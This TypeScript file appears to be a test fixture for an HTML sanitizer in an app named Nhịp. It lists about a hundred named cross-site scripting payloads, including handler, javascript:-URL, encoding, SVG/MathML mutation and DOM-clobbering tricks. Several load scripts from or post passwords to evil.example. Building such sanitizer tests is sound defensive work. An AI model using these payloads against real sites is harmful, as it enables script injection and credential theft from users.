/** Attacks on a reader of foreign HTML, each named by its trick; all written for Nhịp. */
export const vectors: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script inside a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script with a slash and an attribute': '<script/src=//evil.example/x.js></script>',
  'a script that never ends': '<p>Tin</p><script>alert(1)',
  'a script in capitals with a NUL': '<SCR\u0000IPT>alert(1)</SCRIPT>',
  'a module script': '<script type=module>import("//evil.example")</script>',
  'an image handler': '<img src=x onerror=alert(1)>',
  'an unquoted handler behind a slash': '<img/src=x/onerror=alert(1)//',
  'a handler in backquotes': '<img src=`x` onerror=`alert(1)`>',
  'a handler behind a line break': '<img src=x\nonerror\n=\nalert(1)>',
  'a handler in capitals': '<IMG SRC=x OnErRoR=alert(1)>',
  'a handler after a quote that was closed early': '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
  'an svg that loads': '<svg onload=alert(1)>',
  'an svg with a slash': '<svg/onload=alert(1)//',
  'an svg with a script': '<svg><script>alert(1)</script></svg>',
  'an svg animation of an address':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'an svg foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'an svg use of data':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
  'an svg link by xlink': '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  'a plain javascript link': '<a href="javascript:alert(1)">Xem</a>',
  'a javascript link in mixed case': '<a href="JaVaScRiPt:alert(1)">Xem</a>',
  'a javascript link with a tab': '<a href="java\tscript:alert(1)">Xem</a>',
  'a javascript link with line breaks': '<a href="j\na\rv\nascript:alert(1)">Xem</a>',
  'a javascript link behind control characters': '<a href="\u0001\u0008javascript:alert(1)">Xem</a>',
  'a javascript link in decimal entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Xem</a>',
  'a javascript link in entities without semicolons': '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">Xem</a>',
  'a javascript link in a named entity': '<a href="javascript&colon;alert(1)">Xem</a>',
  'a javascript link with a named tab': '<a href="java&Tab;script&colon;alert(1)">Xem</a>',
  'a javascript link that looks like an address':
    '<a href="javascript://https://tin.example/%0aalert(1)">Xem</a>',
  'a link in full-width letters': '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">Xem</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">Xem</a>',
  'a link to a document of data': '<a href="data:text/html,<script>alert(1)</script>">Xem</a>',
  'a link to base64 data': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Xem</a>',
  'a blob link': '<a href="blob:https://nhip.example/1">Xem</a>',
  'a file link': '<a href="file:///etc/passwd">Xem</a>',
  'a link into the application': '<a href="/logout">Xem</a>',
  'a link without a scheme': '<a href="//evil.example">Xem</a>',
  'a link that is only a hash': '<a href="#/admin">Xem</a>',
  'a link that opens its opener':
    '<a href="https://evil.example" target=_self rel=opener referrerpolicy=unsafe-url ping=//evil.example>Xem</a>',
  'a link that downloads': '<a href="https://evil.example/x" download=tin.exe onclick=alert(1)>Xem</a>',
  'an image map': '<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m>',
  'an image of many sources': '<img srcset="x 1x, //evil.example/p.gif 2x" onerror=alert(1)>',
  'a picture':
    '<picture><source srcset=//evil.example/p.gif><img src=//evil.example/p.gif alt=Anh></picture>',
  'a tracking pixel': '<img src="https://evil.example/p.gif?u=1" width=1 height=1>',
  'a video with a handler': '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  'a sound with a handler': '<audio src=x onerror=alert(1)>',
  'a frame': '<iframe src=javascript:alert(1)></iframe>',
  'a frame with a document inside': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'a frame set': '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  'an object': '<object data="javascript:alert(1)"><param name=x></object>',
  'an embed': '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  'an applet': '<applet code=javascript:alert(1)>',
  'a portal': '<portal src=//evil.example></portal>',
  'a base address': '<base href="//evil.example/"><a href="x">Xem</a>',
  'a refresh': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'a style sheet link': '<link rel=stylesheet href=//evil.example/x.css>',
  'an import': '<link rel=import href=//evil.example>',
  'a global style': '<style>body{display:none}@import "//evil.example/x.css"</style>',
  'a style that breaks out': '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  'an overlay by style': '<div style="position:fixed;inset:0;background:#fff">Phiên hết hạn</div>',
  'an expression in a style':
    '<p style="width:expression(alert(1));background:url(javascript:alert(1))">Tin</p>',
  'a class of the application': '<p class="bp6-overlay notice">Tin</p>',
  'a clobbered root': '<p id=root>Tin</p><a id=root name=innerHTML>Tin</a>',
  'a clobbering form':
    '<form id=location><input id=href><input name=childNodes><input name=attributes></form>',
  'a form that takes passwords':
    '<form action=//evil.example><input type=password name=password><button>Đăng nhập</button></form>',
  'a button with its own address':
    '<button formaction=javascript:alert(1) form=login>Gửi</button><input type=image formaction=javascript:alert(1)>',
  'nested forms':
    '<form><form action=javascript:alert(1)></form></form><form><div></form><form><input name=nodeName>',
  'a focused field': '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>',
  'a details toggle': '<details open ontoggle=alert(1)><summary>Tin</summary></details>',
  'a marquee': '<marquee onstart=alert(1)>Tin</marquee>',
  'an editable paragraph':
    '<p contenteditable tabindex=0 role=button aria-live=assertive draggable=true>Tin</p>',
  'a custom element': '<x-nhip onclick=alert(1) is=x>Tin</x-nhip><p is=x-nhip>Tin</p>',
  'a slot and a shadow root':
    '<div><template shadowrootmode=open><script>alert(1)</script></template><slot name=x></slot></div>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a noscript that changes its mind':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a title that breaks out':
    '<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>',
  'an xmp that breaks out': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  'plain text that never ends': '<plaintext><img src=x onerror=alert(1)>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a CDATA section': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?><?php alert(1) ?>',
  'mathematics with a link': '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
  'mathematics that mutates':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mathematics with a style': '<math><mi><style><img src=x onerror=alert(1)></style></mi></math>',
  'annotations that mutate':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'an svg that mutates': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'an svg title that mutates':
    '<svg><title><style><a title="</style><img src=x onerror=alert(1)>"></style></title></svg>',
  'a form in a table that mutates':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a select that mutates':
    '<select><template><style><!--</style><a rel="--></style><img src=x onerror=alert(1)>"></template></select>',
  'a tag closed by a letter that composes':
    '<p>\u0338 onclick=alert(1) <a href="https://tin.example/"\u0338 onclick=alert(1)>Tin</a></p>',
  'a combining mark behind every bracket': '<\u0338p>\u0338<\u0338img src=x onerror=alert(1)>\u0338',
  'a tag of a Turkish letter': '<ſcript>alert(1)</ſcript><ımg src=x onerror=alert(1)>',
  'tags in full width': '＜script＞alert(1)＜/script＞',
  'tags in UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'entities of a tag': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'entities of entities': '&amp;lt;script&amp;gt;alert(1)',
  'a span of a million cells':
    '<table><tr><td colspan=1000000 rowspan=65534 width=99999>Tin</td></tr></table>',
  'cell attributes elsewhere':
    '<p colspan=2 rowspan=2 href="https://tin.example/">Tin</p><li colspan=2>Tin</li>',
  'an anchor around an attack':
    '<a><img src=x onerror=alert(1)><svg onload=alert(1)><p onclick=alert(1)>Tin</p></a>',
  'a heading around an attack':
    '<h1 onclick=alert(1)><img src=x onerror=alert(1)><a href=javascript:alert(1)>Tin</a></h1>',
  'a division around an attack':
    '<div onclick=alert(1)><span style=x><img src=x onerror=alert(1)><script>alert(1)</script></span></div>',
  'an alternative text that is markup': '<img alt="<script>alert(1)</script><img src=x onerror=alert(1)>">',
  'a foster parent': '<table><img src=x onerror=alert(1)><tr><td><svg onload=alert(1)></td></tr></table>',
};
